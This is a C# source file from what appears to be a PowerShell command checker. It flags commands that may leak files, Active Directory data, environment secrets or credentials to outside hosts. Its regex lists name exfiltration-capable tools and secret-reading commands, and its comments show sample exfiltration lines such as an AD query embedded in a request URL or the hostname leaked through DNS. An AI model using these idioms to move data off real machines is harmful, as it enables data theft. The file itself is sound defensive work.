using System.Collections.Frozen;
using System.Text.RegularExpressions;

namespace Firstlook.Effects.PowerShell;

/// <summary>What files, the registry, a directory or the environment hold, and then stands in the address of a request: <c>irm "https://h/?x=$(Get-ADUser -Filter
/// *)"</c>.</summary>
internal static partial class SentOn
{
    static readonly FrozenSet<string> Senders = FrozenSet.Create(StringComparer.OrdinalIgnoreCase,
        "Invoke-RestMethod", "Invoke-WebRequest", "Resolve-DnsName", "Test-NetConnection", "Test-Connection", "nslookup", "nslookup.exe", "ping", "ping.exe", "curl.exe",
            "curl", "Test-WSMan", "New-WebServiceProxy", "Invoke-Sqlcmd", "Connect-PSSession", "Get-CimInstance");

    /// <returns>Why a text is no read; null where it sends nothing on that is held.</returns>
    public static string? Problem(string text) =>
        Content().IsMatch(text) && Sends(text) ? "what a file holds may be sent to another machine"
        : Held().IsMatch(text) && Carrying().IsMatch(text) ? "what is held here may be part of an address"
        : WithAction().IsMatch(text) ? "what a variable says is done there"
        : text.Contains("Method-Override", StringComparison.OrdinalIgnoreCase) ? "a header overrides the method"
        : WithEnvironment().IsMatch(text) ? "what the environment holds is part of an address" : null;

    /// <summary>Whether a text asks another machine with a variable.</summary>
    public static bool Sends(string text) => Sending().IsMatch(text);

    /// <returns>Why one command is no read, by what it sends; null where it sends nothing of the kind.</returns>
    public static Verdict? Judge(string name, IReadOnlyList<PowerShellToken> tokens, IReadOnlyList<Argument> words)
    {
        // about_Subexpression: what a file holds is put into an address, a name or a body.
        // "type" is a column in the text of a statement.
        var statements = name == "Invoke-Sqlcmd";
        if (Senders.Contains(name)
            && tokens.Skip(1)
                .Any(token =>
                    !(statements && token is { Kind: PowerShellKind.Word, Quoted: true }) && Content().IsMatch(token.Text)
                        || token.Inner.Any(inner => Content().IsMatch(inner) || Held().IsMatch(inner))
                        || token.Kind == PowerShellKind.Parenthesis && Held().IsMatch(token.Text)))
            return Verdict.Unknown("what a file holds is sent to another machine");
        if (AsksOutside(name, words)) return Verdict.Unknown(Shares.Why);
        if (Senders.Contains(name) && tokens.Skip(1).Any(TellsOfHere)) return Verdict.Unknown("the name that is asked for tells whoever answers for its domain of this machine");
        if (HandsCredential(words)) return Verdict.Unknown("it hands a password to a machine that may be somebody's");
        if (name is not ("Invoke-RestMethod" or "Invoke-WebRequest" or "irm" or "iwr")) return null;
        return Requested(tokens) ?? Body(tokens) ?? (SignsIn(words) ? Verdict.Unknown("it signs in at somebody's machine") : null);
    }

    /// <summary>The address that texts in brackets are put together to, <c>('http://h/' + 'stop')</c>; a header that overrides the method, and parameters that a variable
    /// holds.</summary>
    static Verdict? Requested(IReadOnlyList<PowerShellToken> tokens)
    {
        Verdict? verdict = null;
        foreach (var token in tokens.Skip(1))
        {
            if (token is { Kind: PowerShellKind.Word, Quoted: false } && token.Text is ['@', _, ..]) return Verdict.Unknown("its parameters are held by a variable");
            if (token.Text.Contains("override", StringComparison.OrdinalIgnoreCase)) return Verdict.Unknown("a header overrides the method");
            foreach (var code in token.Kind == PowerShellKind.Parenthesis ? [token.Text] : token.Inner)
            {
                if (Disguising().IsMatch(code)) return Verdict.Unknown("what is asked for is put together");
                var said = string.Concat(Quoted().Matches(code).Select(quoted => quoted.Groups["text"].Value));
                if (said.Length == 0) continue;
                var address = token.Kind == PowerShellKind.Parenthesis ? said : token.Text.Replace(Argument.Hole.ToString(), said, StringComparison.Ordinal);
                var asked = Http.HttpJudge.Request("GET", address.StartsWith("http", StringComparison.OrdinalIgnoreCase) ? address : "http://host/" + address.TrimStart('/'), "");
                if (asked.Effect > Effect.Read) verdict = verdict is { } before ? before.And(asked) : asked;
            }
        }

        return verdict;
    }

    [GeneratedRegex(@"'(?<text>[^']*)'|""(?<text>[^""]*)""", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Quoted();

    [GeneratedRegex(@"-[ci]?(replace|split)(?!\w)|\[char|\]::|\.(Replace|Insert|Remove|Substring|ToLower|PadLeft|TrimStart|TrimEnd|Trim|Split)\(|\w\[|\)\[|['""]\[",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Disguising();

    /// <summary>A GET's body becomes its query (Invoke-RestMethod, "-Body").</summary>
    static Verdict? Body(IReadOnlyList<PowerShellToken> tokens)
    {
        for (var at = 1; at + 1 < tokens.Count; at++)
        {
            if (tokens[at].Kind != PowerShellKind.Word || !tokens[at].Text.StartsWith("-b", StringComparison.OrdinalIgnoreCase)
                || tokens[at + 1].Kind is not (PowerShellKind.Table or PowerShellKind.Word)) continue;
            var query = string.Join('&', Pair().Matches(tokens[at + 1].Text).Select(pair => pair.Groups["key"].Value + "=" + pair.Groups["value"].Value));
            if (query.Length > 0 && Http.HttpJudge.Request("GET", "http://host/?" + query, "") is { Effect: > Effect.Read } acts) return acts;
        }

        return null;
    }

    /// <summary>A credential that is handed to a server outside: <c>-SqlInstance db.example.com -SqlCredential $c</c>.</summary>
    static bool HandsCredential(IReadOnlyList<Argument> words)
    {
        if (!words.Any(word => Credential().IsMatch(word.Text))) return false;
        for (var at = 1; at < words.Count; at++)
        {
            if (Server().Match(words[at].Text) is not { Success: true } server) continue;
            var host = server.Groups["value"].Success ? server.Groups["value"].Value : at + 1 < words.Count ? words[at + 1].Text : "";
            if (host.Split([',', '\\', ':']) is [var first, ..] && !first.Contains(Argument.Hole) && !OwnNetwork.Private.Has(first)) return true;
        }

        return false;
    }

    /// <summary>Commands that ask a machine by an address, and sign in nowhere.</summary>
    static readonly FrozenSet<string> Probing = FrozenSet.Create(StringComparer.OrdinalIgnoreCase,
        "Test-NetConnection", "Test-Connection", "Test-WSMan", "Resolve-DnsName", "Get-NetIPAddress", "Test-Port", "tnc", "Get-Tls", "Test-TcpPort");

    /// <summary>Windows signs in with the account of whoever runs it at the machine that is asked (MS-NLMP): <c>Get-CimInstance -ComputerName example.com</c>.</summary>
    public static bool AsksOutside(string name, IReadOnlyList<Argument> words)
    {
        if (!Signing().IsMatch(name) || Probing.Contains(name)) return false;
        // learn.microsoft.com, "Invoke-Command": the machine is named first, whether "-ComputerName" is written or not.
        if (name == "Invoke-Command" && words.Count > 1 && AreOutside(words[1].Text)) return true;
        for (var at = 1; at < words.Count; at++)
        {
            if (ConnectedTo().Match(words[at].Text) is { Success: true } connected && !OwnNetwork.Private.Has(connected.Groups["host"].Value)) return true;
            var asked = Computer().Match(words[at].Text);
            // learn.microsoft.com, "Get-WsusServer": "-Name" is the server's.
            var named = name.Equals("Get-WsusServer", StringComparison.OrdinalIgnoreCase) && words[at].Text.StartsWith("-N", StringComparison.OrdinalIgnoreCase);
            if (!asked.Success && !named) continue;
            if (AreOutside(asked.Groups["value"].Success ? asked.Groups["value"].Value : at + 1 < words.Count ? words[at + 1].Text : "")) return true;
        }

        return false;
    }

    // db.example.com, db.example.com\INSTANCE, deploy@web.example.com, http://web.example.com:5985/wsman
    static bool AreOutside(string hosts) =>
        hosts.Split(',').Any(host => Address().Replace(host.Trim(), "").Split(':', '/', '\\')[0] is var plain && Named().IsMatch(plain) && !OwnNetwork.Private.Has(plain));

    [GeneratedRegex(@"^(https?://)?([\w.-]+@)?", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Address();

    // learn.microsoft.com, "SqlConnection.ConnectionString"
    [GeneratedRegex(@"(^|;|['""])\s*(Server|Data Source|Addr|Address|Network Address)\s*=\s*(tcp:|np:|lpc:)?(?<host>[A-Za-z0-9_-]+(\.[A-Za-z0-9_-]+)+)",
        RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ConnectedTo();

    [GeneratedRegex("^(Get-|Find-|Search-|Test-Ad|Test-Dba|Invoke-Sqlcmd$|Invoke-Command$)",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Signing();

    [GeneratedRegex("^-(Comp\\w*|Cn|CimS\\w*|Serv|Server|ServerI\\w*|ServerN\\w*|SqlInstance|Clu\\w*|(Source|Destination|Reference|Target|Primary|Collector)C\\w*|DomainC\\w*|"
        + "ConnectionB\\w*|ConnectionU\\w*|HostN\\w*|ManagementS\\w*|VIServer)(:(?<value>.+))?$",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Computer();

    [GeneratedRegex(@"^[A-Za-z0-9_-]+(\.[A-Za-z0-9_-]+)+$", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Named();

    // "$(hostname).example.com", "$($env:USERNAME).example.com"
    static bool TellsOfHere(PowerShellToken token) =>
        token.Inner.Any(inner => OfHere().IsMatch(inner)) && Behind().Match(token.Text) is { Success: true } domain && !OwnNetwork.Private.Has("x" + domain.Groups["suffix"].Value);

    [GeneratedRegex(@"(?<![\w-])(hostname|whoami|Get-\w+)(?![\w-])|\$\{?env:", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex OfHere();

    [GeneratedRegex("\uFFFC(?<suffix>(\\.[A-Za-z0-9-]+){2,})(:\\d+)?(/|$)", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Behind();

    [GeneratedRegex("^-(\\w*Cred\\w*|SqlCr\\w*)", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Credential();

    [GeneratedRegex("^-(Comp\\w*|Cn|Serv\\w*|SqlI\\w*|Cim\\w*|HostN\\w*|Cluster|DomainC\\w*)(:(?<value>.+))?$",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Server();

    /// <summary>-UseDefaultCredentials signs in as this user, wherever the address leads: a name with a dot that is none of the own network's may be anybody's.</summary>
    static bool SignsIn(IReadOnlyList<Argument> words) =>
        words.Any(word => word.Text.StartsWith("-UseDef", StringComparison.OrdinalIgnoreCase))
            && words.Skip(1).Any(word => Host().Match(word.Text) is { Success: true } host && !OwnNetwork.Private.Has(host.Groups["host"].Value));

    [GeneratedRegex(
        @"(?<![\w-])((Invoke-RestMethod|Invoke-WebRequest|irm|iwr|Resolve-DnsName|nslookup|curl|ping)(\.exe)?\s[^\n;|]*\$|"
        + @"(Test-NetConnection|tnc|Test-Connection)\s[^\n;|]*(""[^""\n]*\$|\$\())",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Sending();

    [GeneratedRegex(
        @"(?<![\w-])(Get-Content|gc|cat|type|Get-Secret|ReadAllText|ReadAllBytes|ReadAllLines|ConvertFrom-SecureString|Get-Clipboard|Import-Csv|"
        + @"Import-Clixml)(?![\w-])",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Content();

    [GeneratedRegex(@"(?<key>[\w.-]+)['""]?\s*=\s*['""]?(?<value>[^'"";\n&]*)", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Pair();

    [GeneratedRegex(@"^(-\w+:)?(https?://)?(?<host>[^/:?]+)", RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Host();

    // irm "http://h/$action"
    [GeneratedRegex(@"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*/\$\{?(action|command|cmd|operation|op|verb)\b",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex WithAction();

    [GeneratedRegex(
        @"(?<![\w-])(Select-String|sls|findstr|Get-ItemProperty|Get-ItemPropertyValue|gpv|reg(\.exe)?\s+query|Get-AD\w+|Get-LocalUser|Get-Mg\w+|Get-Mailbox|"
        + @"Get-Recipient|Invoke-Sqlcmd|Get-Credential|Get-Content|gc|cat|type|Import-Csv|Import-Clixml|more)(?![\w-])",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Held();

    [GeneratedRegex(@"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*\$",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Carrying();

    [GeneratedRegex(
        @"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*(\?[^\n;|\s]*\$\{?env:|"
        + @"\$\{?env:\w*(SECRET|TOKEN|PASS|KEY|CRED))",
        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex WithEnvironment();
}
